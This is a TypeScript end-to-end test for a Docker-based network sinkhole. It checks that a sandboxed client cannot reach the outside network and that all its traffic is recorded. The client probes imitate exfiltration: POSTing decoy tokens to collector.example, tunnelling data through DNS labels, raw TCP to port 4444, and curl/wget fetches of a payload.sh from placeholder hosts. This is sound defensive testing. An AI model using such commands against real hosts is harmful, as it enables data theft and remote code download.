/**
 * End to end: the real sinkhole in a real container owning a network namespace, and a client
 * container configured like the sandbox joining it. Every probe names a reserved destination
 * (*.example, *.invalid, *.test, documentation addresses); 172.17.0.1 (the docker bridge
 * gateway, i.e. this host) is probed only to prove it is NOT reachable. Nothing can leave the
 * machine: both containers have no network but the sinkhole's loopback.
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import type Docker from 'dockerode';
import { connectDocker } from '../../src/sandbox/docker.js';
import { ensureSandboxImage } from '../../src/sandbox/image/index.js';
import type { SinkholeConnection, SinkholeDns, SinkholeEvent, SinkholeReady, SinkholeUdp } from '../../src/sandbox/sinkhole/protocol.js';
import { clientRecords } from '../../src/rules/tls-records.js';

const SANDBOX_UID = 1000;

/** Runs inside the client container as uid 1000; prints one JSON line per probe. */
const CLIENT_SCRIPT = `
import dns from 'node:dns/promises';
import dgram from 'node:dgram';
import fs from 'node:fs';
import net from 'node:net';
import tls from 'node:tls';
import { execFileSync } from 'node:child_process';

const gatewayPort = Number(process.argv[2]);
const out = (step, fields) => console.log(JSON.stringify({ step, ...fields }));
async function probe(step, fn) {
  try {
    out(step, { ok: true, value: await fn() });
  } catch (err) {
    out(step, { ok: false, error: String(err.code ?? err.cause?.code ?? err.message) });
  }
}
const status = async (url, init) => (await fetch(url, init)).status;
const python = (code) => execFileSync('python3', ['-c', code], { encoding: 'utf8' }).trim();

await probe('lookup', () => dns.lookup('exfil.example', { all: true }));
await probe('http-post', () => status('http://collector.example/upload', { method: 'POST', body: 'token=decoy-123' }));
await probe('https-post', () => status('https://collector.example/api', { method: 'POST', body: 'token=decoy-456' }));
await probe('raw-tcp', () => new Promise((resolve, reject) => {
  const s = net.connect(4444, '192.0.2.10', () => s.end('hello'));
  s.on('error', reject);
  s.on('close', () => resolve('closed'));
}));
// Hand-built queries: resolver libraries may lowercase names, exfiltration code does not.
function dnsQuery(labels) {
  const name = Buffer.concat([...labels.flatMap((l) => [Buffer.from([l.length]), Buffer.from(l, 'latin1')]), Buffer.from([0])]);
  const packet = Buffer.concat([Buffer.from('1d2a01000001000000000000', 'hex'), name, Buffer.from([0, 1, 0, 1])]);
  const server = fs.readFileSync('/etc/resolv.conf', 'utf8').match(/^nameserver\\s+(\\S+)/m)[1];
  return new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    const timer = setTimeout(() => (s.close(), reject(new Error('no answer'))), 3000);
    s.on('message', (reply) => {
      clearTimeout(timer);
      s.close();
      // The one A record's data is the last four bytes of the answer.
      resolve({ id: reply.readUInt16BE(0), answers: reply.readUInt16BE(6), address: [...reply.subarray(-4)].join('.') });
    });
    s.send(packet, 53, server);
  });
}
await probe('dns-data', () => dnsQuery(['ZGVjb3k', 'data', 'exfil', 'test']));
await probe('dns-escaped', () => dnsQuery(['a.b\\x01', 'exfil', 'test']));
await probe('dns-hardcoded-server', () => {
  const resolver = new dns.Resolver();
  resolver.setServers(['192.0.2.53']);
  return resolver.resolve4('direct.exfil.example');
});
await probe('dns-tcp', () => new Promise((resolve, reject) => {
  const query = Buffer.concat([Buffer.from('2b2b01000001000000000000', 'hex'), Buffer.from([3]), Buffer.from('TcP'), Buffer.from([7]), Buffer.from('example'), Buffer.from([0, 0, 1, 0, 1])]);
  const s = net.connect(53, '203.0.113.53', () => s.write(Buffer.concat([Buffer.from([0, query.length]), query])));
  s.on('data', (d) => (s.destroy(), resolve(d.readUInt16BE(2 + 6))));
  s.on('error', reject);
}));
await probe('tls-ip', () => new Promise((resolve, reject) => {
  const s = tls.connect({ host: '203.0.113.7', port: 8443 }, () => s.end('opaque-over-tls', () => resolve(s.getPeerCertificate().subject.CN)));
  s.on('error', reject);
}));
await probe('tls-untrusted', () => new Promise((resolve, reject) => {
  const s = tls.connect({ host: 'pinned.example', servername: 'pinned.example', port: 443, ca: [] }, () => reject(new Error('trusted a certificate it should not')));
  s.on('error', (err) => resolve(err.code));
}));
// OpenSSL (python's ssl, no CA loaded) refuses the certificate with an alert after its hello.
await probe('tls-untrusted-openssl', () => python('import socket, ssl\\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\\ntry:\\n  ctx.wrap_socket(socket.create_connection(("pinned-openssl.example", 443)), server_hostname="pinned-openssl.example")\\n  print("trusted")\\nexcept ssl.SSLError as e:\\n  print(e.reason)'));
// A client that sends an encrypted-looking record right after its ClientHello (as TLS 1.3 early data would be).
await probe('tls-sealed', () => python('import socket, ssl\\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\\nincoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()\\nclient = ctx.wrap_bio(incoming, outgoing, server_hostname="sealed.example")\\ntry:\\n  client.do_handshake()\\nexcept ssl.SSLWantReadError:\\n  pass\\ns = socket.create_connection(("sealed.example", 443))\\ns.sendall(outgoing.read() + bytes([23, 3, 3, 0, 24]) + b"opaque-after-the-hello!!")\\ns.settimeout(8)\\ntry:\\n  while s.recv(4096):\\n    pass\\n  print("closed")\\nexcept OSError as e:\\n  print(type(e).__name__)'));
await probe('curl', () => execFileSync('curl', ['-sS', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', 'http://dl.invalid/payload.sh'], { encoding: 'utf8' }));
await probe('wget', () => (execFileSync('wget', ['-q', '-T', '5', '-O', '/dev/null', 'http://dl.invalid/payload.sh']), 'ok'));
await probe('gateway', () => status('http://172.17.0.1:' + gatewayPort + '/host'));
await probe('ipv6', () => status('http://[2001:db8::80]/v6'));
await probe('udp', () => new Promise((resolve, reject) => {
  const s = dgram.createSocket('udp4');
  s.send('udp-probe', 9999, '192.0.2.1', (err) => (s.close(), err ? reject(err) : resolve('sent')));
}));
await probe('icmp', () => python('import socket\\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,socket.IPPROTO_ICMP)\\ntry:\\n  s.sendto(bytes([8,0,0,0,0,0,0,0]),("192.0.2.1",0));print("sent")\\nexcept OSError as e:print(e.errno)'));
await probe('udplite', () => python('import socket\\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,136)\\ntry:\\n  s.sendto(b"x",("192.0.2.1",9));print("sent")\\nexcept OSError as e:print(e.errno)'));
await probe('interfaces', () => fs.readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean));
await probe('routes', () => fs.readFileSync('/proc/net/route', 'utf8').split('\\n').slice(1).map((l) => l.split('\\t')[0]).filter(Boolean));
// Last: a client that waits for a server banner and sends nothing, held open until shutdown.
const held = net.connect(22, '192.0.2.22', () => out('holding', { ok: true }));
held.on('error', (err) => out('holding', { ok: false, error: err.code }));
setTimeout(() => process.exit(0), 60_000);
`;

interface Running {
  container: Docker.Container;
  lines: string[];
  stderr: () => string;
  waitFor: (predicate: (line: string) => boolean, ms: number) => Promise<string>;
  ended: Promise<void>;
}

const started: Docker.Container[] = [];

async function startContainer(docker: Docker, options: Docker.ContainerCreateOptions): Promise<Running> {
  const container = await docker.createContainer({ ...options, AttachStdout: true, AttachStderr: true, Tty: false });
  started.push(container);
  const stream = await container.attach({ stream: true, stdout: true, stderr: true });
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  docker.modem.demuxStream(stream, stdout, stderr);
  let errText = '';
  stderr.on('data', (d: Buffer) => (errText += d.toString('utf8')));
  const lines: string[] = [];
  const waiters = new Set<() => void>();
  let pending = '';
  stdout.on('data', (d: Buffer) => {
    const parts = (pending + d.toString('utf8')).split('\n');
    pending = parts.pop() ?? '';
    lines.push(...parts);
    for (const wake of waiters) wake();
  });
  const ended = new Promise<void>((resolve) => {
    stream.on('end', resolve);
    stream.on('close', resolve);
  });
  const waitFor = (predicate: (line: string) => boolean, ms: number): Promise<string> =>
    new Promise((resolve, reject) => {
      const check = (): void => {
        const hit = lines.find(predicate);
        if (hit === undefined) return;
        done();
        resolve(hit);
      };
      const timer = setTimeout(() => {
        done();
        reject(new Error(`no matching line within ${ms} ms; stdout:\n${lines.join('\n')}\nstderr:\n${errText}`));
      }, ms);
      const done = (): void => {
        clearTimeout(timer);
        waiters.delete(check);
      };
      waiters.add(check);
      void ended.then(check);
      check();
    });
  await container.start();
  return { container, lines, stderr: () => errText, waitFor, ended };
}

function sinkholeOptions(image: string): Docker.ContainerCreateOptions {
  return {
    Image: image,
    Cmd: ['node', '/usr/local/lib/si/sinkhole.mjs', '--uid', String(SANDBOX_UID)],
    User: '0',
    Hostname: 'alex-thinkpad',
    HostConfig: {
      NetworkMode: 'none',
      Dns: ['127.0.0.53'],
      CapDrop: ['ALL'],
      CapAdd: ['NET_ADMIN'],
      SecurityOpt: ['no-new-privileges'],
      ReadonlyRootfs: true,
      Tmpfs: { '/tmp': '' },
      Sysctls: { 'net.ipv6.conf.all.disable_ipv6': '0', 'net.ipv6.conf.lo.disable_ipv6': '0' },
      Memory: 256 * 1024 ** 2,
      PidsLimit: 64,
      LogConfig: { Type: 'none', Config: {} },
    },
  };
}

function clientOptions(image: string, sinkholeId: string, dir: string, gatewayPort: number): Docker.ContainerCreateOptions {
  const caPath = '/etc/ssl/certs/local-development-ca.pem';
  return {
    Image: image,
    Cmd: ['node', '/opt/probe/client.mjs', String(gatewayPort)],
    User: `${SANDBOX_UID}:${SANDBOX_UID}`,
    Env: [`NODE_EXTRA_CA_CERTS=${caPath}`, `SSL_CERT_FILE=${caPath}`, `CURL_CA_BUNDLE=${caPath}`],
    HostConfig: {
      NetworkMode: `container:${sinkholeId}`,
      CapDrop: ['ALL'],
      SecurityOpt: ['no-new-privileges'],
      ReadonlyRootfs: true,
      Binds: [`${path.join(dir, 'ca.pem')}:${caPath}:ro`, `${path.join(dir, 'client.mjs')}:/opt/probe/client.mjs:ro`],
      LogConfig: { Type: 'none', Config: {} },
    },
  };
}

/**
 * A listener on the docker bridge address, to prove the sandbox cannot reach the host; null
 * when this host has no such address (docker0 may be down and then os.networkInterfaces()
 * omits it, so binding is the only test).
 */
async function hostTrap(): Promise<{ port: number; hits: () => number; close: () => void } | null> {
  let hits = 0;
  const server = net.createServer((s) => {
    hits++;
    s.destroy();
  });
  const bound = await new Promise<boolean>((resolve) => {
    server.once('error', () => resolve(false));
    server.listen(0, '172.17.0.1', () => resolve(true));
  });
  if (!bound) return null;
  return { port: (server.address() as net.AddressInfo).port, hits: () => hits, close: () => server.close() };
}

function inRange(ip: string, base: string, bits: number): boolean {
  const toInt = (a: string): number => a.split('.').reduce((n, p) => n * 256 + Number(p), 0);
  return Math.floor(toInt(ip) / 2 ** (32 - bits)) === Math.floor(toInt(base) / 2 ** (32 - bits));
}

describe('sinkhole', () => {
  let docker: Docker;
  let image: string;
  let dir: string;

  before(async () => {
    docker = await connectDocker();
    image = (await ensureSandboxImage(docker)).tag;
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'si-sinkhole-test-'));
    // The client runs as uid 1000 and must read its bind mounts.
    fs.chmodSync(dir, 0o755);
  });

  after(async () => {
    await Promise.all(started.map((c) => c.remove({ force: true, v: true }).catch(() => undefined)));
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  test('captures DNS, HTTP, HTTPS, raw TCP and UDP of the sandbox user, and lets nothing out', { timeout: 180_000 }, async (t) => {
    const t0 = performance.now();
    const sinkhole = await startContainer(docker, sinkholeOptions(image));
    const tStarted = performance.now();
    const readyLine = await sinkhole.waitFor((l) => l.startsWith('{"type":"ready"'), 15_000);
    const tReady = performance.now();
    const ready = JSON.parse(readyLine) as SinkholeReady;
    t.diagnostic(
      `sinkhole: create+start ${Math.round(tStarted - t0)} ms, start→ready ${Math.round(tReady - tStarted)} ms, ` +
        `process start→ready ${ready.startupMs} ms (total ${Math.round(tReady - t0)} ms)`,
    );

    assert.equal(ready.uid, SANDBOX_UID);
    assert.equal(ready.ipv6, true, 'IPv6 is enabled through the Sysctls');
    assert.equal(ready.fakeRanges.v4, '198.18.0.0/15');
    const ca = new crypto.X509Certificate(ready.ca);
    assert.ok(ca.ca, 'the CA certificate is a CA');
    assert.match(ca.subject, /CN=Local Development CA/);
    assert.doesNotMatch(ca.subject + ca.issuer, /safe-install|sinkhole|sandbox/i);
    const lifetimeDays = (Date.parse(ca.validTo) - Date.parse(ca.validFrom)) / 86_400_000;
    assert.ok(lifetimeDays > 1.9 && lifetimeDays < 2.1, `CA valid for two days, got ${lifetimeDays}`);
    fs.writeFileSync(path.join(dir, 'ca.pem'), ready.ca, { mode: 0o644 });
    fs.writeFileSync(path.join(dir, 'client.mjs'), CLIENT_SCRIPT, { mode: 0o644 });

    const trap = await hostTrap();
    try {
      const client = await startContainer(docker, clientOptions(image, sinkhole.container.id, dir, trap?.port ?? 2375));
      await client.waitFor((l) => l.includes('"step":"holding"'), 90_000);
      const probes = new Map(
        client.lines
          .filter((l) => l.startsWith('{'))
          .map((l) => JSON.parse(l) as Probe)
          .map((p) => [p.step, p]),
      );
      // Stopped while the banner-waiting connection is still open: its record must not be lost.
      await sinkhole.container.stop({ t: 5 });
      await sinkhole.ended;
      const exit = (await sinkhole.container.inspect()) as { State: { ExitCode: number } };
      assert.equal(exit.State.ExitCode, 0, `sinkhole exit code; stderr: ${sinkhole.stderr()}`);

      const events = sinkhole.lines.filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as SinkholeEvent);
      const dump = (): void =>
        console.error([...probes.values(), ...events.filter((e) => e.type !== 'ready')].map((e) => JSON.stringify(e).slice(0, 600)).join('\n'));
      try {
        checkRecords(probes, events, trap);
      } catch (err) {
        dump();
        throw err;
      }
    } finally {
      trap?.close();
    }
  });
});

type Probe = { step: string; ok: boolean; value?: unknown; error?: string };
type Trap = Awaited<ReturnType<typeof hostTrap>>;

interface Records {
  probes: Map<string, Probe>;
  events: SinkholeEvent[];
  dns: SinkholeDns[];
  conns: SinkholeConnection[];
  udp: SinkholeUdp[];
  /** The value of a probe that must have succeeded. */
  ok: (step: string) => unknown;
}

function checkRecords(probes: Map<string, Probe>, events: SinkholeEvent[], trap: Trap): void {
  const records: Records = {
    probes,
    events,
    dns: events.filter((e): e is SinkholeDns => e.type === 'dns'),
    conns: events.filter((e): e is SinkholeConnection => e.type === 'connection'),
    udp: events.filter((e): e is SinkholeUdp => e.type === 'udp'),
    ok: (step) => {
      const p = probes.get(step);
      assert.ok(p?.ok, `probe ${step}: ${JSON.stringify(p)}`);
      return p.value;
    },
  };
  assert.deepEqual(
    events.filter((e) => e.type === 'error'),
    [],
  );
  checkDns(records);
  checkHttp(records);
  checkTls(records);
  checkRawAndUdp(records);
  checkIsolation(records, trap);
  checkShutdown(records);
}

/** Every name resolves to its own fake address, v4 and v6, and names are kept byte for byte. */
function checkDns({ dns, ok }: Records): void {
  const lookup = ok('lookup') as { address: string; family: number }[];
  const v4 = lookup.find((a) => a.family === 4)!.address;
  assert.ok(inRange(v4, '198.18.0.0', 15), v4);
  assert.ok(lookup.some((a) => a.family === 6 && a.address.startsWith('2001:2::')), JSON.stringify(lookup));
  const exfilA = dns.find((d) => d.name === 'exfil.example' && d.qtype === 'A');
  assert.deepEqual(exfilA?.answers, [v4]);
  assert.equal(exfilA?.server, '127.0.0.53:53');
  assert.ok(dns.some((d) => d.name === 'exfil.example' && d.qtype === 'AAAA' && d.answers[0]?.startsWith('2001:2::')));

  const dataQuery = dns.find((d) => d.name === 'ZGVjb3k.data.exfil.test');
  assert.ok(dataQuery, 'label data recorded exactly, case included');
  assert.equal(dataQuery.qtype, 'A');
  assert.deepEqual(ok('dns-data'), { id: 0x1d2a, answers: 1, address: dataQuery.answers[0] });
  ok('dns-escaped');
  assert.ok(dns.some((d) => d.name === 'a\\046b\\001.exfil.test'), 'bytes that are not name characters are escaped');

  // A resolver the code picked itself is recorded as such; DNS over TCP is answered too.
  assert.ok(inRange((ok('dns-hardcoded-server') as string[])[0]!, '198.18.0.0', 15));
  assert.equal(dns.find((d) => d.name === 'direct.exfil.example')?.server, '192.0.2.53:53');
  assert.equal(ok('dns-tcp'), 1, 'one answer over TCP');
  assert.equal(dns.find((d) => d.name === 'TcP.example')?.transport, 'tcp');
}

function checkHttp({ dns, conns, ok }: Records): void {
  assert.equal(ok('http-post'), 200);
  const collectorIp = dns.find((d) => d.name === 'collector.example' && d.qtype === 'A')!.answers[0];
  const post = conns.find((c) => c.protocol === 'http' && c.http?.path === '/upload');
  assert.ok(post, 'HTTP POST recorded');
  assert.equal(post.hostname, 'collector.example');
  assert.equal(post.dstIp, collectorIp);
  assert.equal(post.dstPort, 80);
  assert.ok(post.clientPort > 0);
  assert.equal(post.http?.method, 'POST');
  assert.equal(post.http?.host, 'collector.example');
  assert.equal(post.http?.body, 'token=decoy-123');
  assert.equal(post.http?.complete, true);

  assert.equal(ok('curl'), '200');
  ok('wget');
  const downloads = conns.filter((c) => c.http?.host === 'dl.invalid' && c.http.path === '/payload.sh');
  assert.ok(downloads.some((c) => c.http?.headers['user-agent']?.startsWith('curl/')), 'curl recorded');
  assert.ok(downloads.some((c) => c.http?.headers['user-agent']?.startsWith('Wget/')), 'wget recorded');
  assert.ok(downloads.every((c) => c.hostname === 'dl.invalid' && c.dstPort === 80));

  assert.equal(ok('ipv6'), 200);
  assert.ok(conns.some((c) => c.dstIp === '2001:db8::80' && c.dstPort === 80 && c.http?.path === '/v6'), 'IPv6 connection recorded');
}

/** TLS is terminated with the per-scan CA, so what is inside is seen decrypted. */
function checkTls({ conns, ok }: Records): void {
  assert.equal(ok('https-post'), 200);
  const post = conns.find((c) => c.protocol === 'https' && c.http?.path === '/api');
  assert.ok(post, 'HTTPS POST recorded');
  assert.equal(post.sni, 'collector.example');
  assert.equal(post.tls?.handshake, 'ok');
  assert.equal(post.hostname, 'collector.example');
  assert.equal(post.dstPort, 443);
  assert.equal(post.http?.method, 'POST');
  assert.equal(post.http?.body, 'token=decoy-456');
  assert.ok(post.bytesReceived > post.http!.bodyBytes, 'bytesReceived counts the encrypted stream');

  // To a literal address (certificate for the IP), carrying something other than HTTP.
  assert.equal(ok('tls-ip'), '203.0.113.7');
  const opaque = conns.find((c) => c.dstIp === '203.0.113.7');
  assert.ok(opaque, 'TLS to an IP recorded');
  assert.equal(opaque.protocol, 'tls');
  assert.equal(opaque.tls?.handshake, 'ok');
  assert.equal(opaque.sni, undefined);
  assert.equal(Buffer.from(opaque.firstBytes, 'base64').toString(), 'opaque-over-tls');

  // A client that does not trust the CA: its ClientHello and SNI are still recorded.
  assert.equal(ok('tls-untrusted'), 'SELF_SIGNED_CERT_IN_CHAIN');
  const pinned = conns.find((c) => c.sni === 'pinned.example');
  assert.ok(pinned, 'rejected TLS recorded');
  assert.equal(pinned.protocol, 'tls');
  assert.notEqual(pinned.tls?.handshake, 'ok');
  assert.equal(Buffer.from(pinned.firstBytes, 'base64')[0], 0x16, 'firstBytes hold the ClientHello');
  // node hangs up once it has the certificate: all it sent is on record, and all of it in clear.
  const pinnedWire = Buffer.from(pinned.firstBytes, 'base64');
  assert.equal(pinnedWire.length, pinned.bytesReceived, 'everything the client sent is on record');
  assert.deepEqual(clientRecords(pinnedWire), { clear: pinned.bytesReceived, sealed: 0 });

  // OpenSSL alerts after its hello: the alert is on record too, after the hello, in clear.
  assert.equal(ok('tls-untrusted-openssl'), 'CERTIFICATE_VERIFY_FAILED');
  const alerted = conns.find((c) => c.sni === 'pinned-openssl.example');
  assert.ok(alerted, 'the OpenSSL client recorded');
  assert.equal(alerted.tls?.handshake, 'failed');
  assert.match(alerted.tls?.error ?? '', /ALERT/);
  const alertedWire = Buffer.from(alerted.firstBytes, 'base64');
  assert.equal(alertedWire.length, alerted.bytesReceived, 'the alert that came after the hello is on record');
  assert.ok(alertedWire.length > 5 + alertedWire.readUInt16BE(3), 'more than the hello');
  assert.deepEqual(clientRecords(alertedWire), { clear: alerted.bytesReceived, sealed: 0 });

  // Something sealed after the hello is on record as sealed.
  ok('tls-sealed');
  const sealed = conns.find((c) => c.sni === 'sealed.example');
  assert.ok(sealed, 'the sealed client recorded');
  assert.notEqual(sealed.tls?.handshake, 'ok');
  const sealedWire = Buffer.from(sealed.firstBytes, 'base64');
  assert.equal(sealedWire.length, sealed.bytesReceived);
  assert.equal(clientRecords(sealedWire).sealed, 29);
}

function checkRawAndUdp({ conns, udp, ok }: Records): void {
  ok('raw-tcp');
  const raw = conns.find((c) => c.dstIp === '192.0.2.10' && c.dstPort === 4444);
  assert.ok(raw, 'raw TCP recorded');
  assert.equal(raw.protocol, 'raw');
  assert.equal(raw.hostname, null);
  assert.equal(Buffer.from(raw.firstBytes, 'base64').toString(), 'hello');
  assert.equal(raw.bytesReceived, 5);

  ok('udp');
  const datagram = udp.find((u) => u.listener === 'catch' && Buffer.from(u.payload, 'base64').toString() === 'udp-probe');
  assert.ok(datagram, 'UDP datagram recorded');
  assert.equal(datagram.dstIp, '192.0.2.1');
  assert.equal(datagram.dstPort, 9999);
}

/** Nothing but loopback, the host is answered by the sinkhole, and other protocols are dropped. */
function checkIsolation({ conns, ok }: Records, trap: Trap): void {
  assert.deepEqual(ok('interfaces'), ['lo']);
  assert.deepEqual([...new Set(ok('routes') as string[])], ['lo']);

  assert.equal(ok('gateway'), 200);
  const gateway = conns.find((c) => c.dstIp === '172.17.0.1');
  assert.ok(gateway, 'connection to the gateway captured by the sinkhole');
  assert.equal(gateway.http?.path, '/host');
  if (trap) {
    assert.equal(gateway.dstPort, trap.port);
    assert.equal(trap.hits(), 0, 'nothing reached the listener on the host');
  }

  // errno 1 (EPERM): the filter table's DROP, not a missing route.
  assert.equal(ok('icmp'), '1');
  assert.equal(ok('udplite'), '1');
}

/** Stopped while a banner-waiting connection was open: its record is flushed, then the counts. */
function checkShutdown({ conns, events }: Records): void {
  const held = conns.find((c) => c.dstIp === '192.0.2.22' && c.dstPort === 22);
  assert.ok(held, 'held connection recorded');
  assert.equal(held.endReason, 'shutdown');
  assert.equal(held.protocol, 'raw');
  assert.equal(held.firstBytes, '');
  assert.equal(events.at(-1)?.type, 'stats');
}
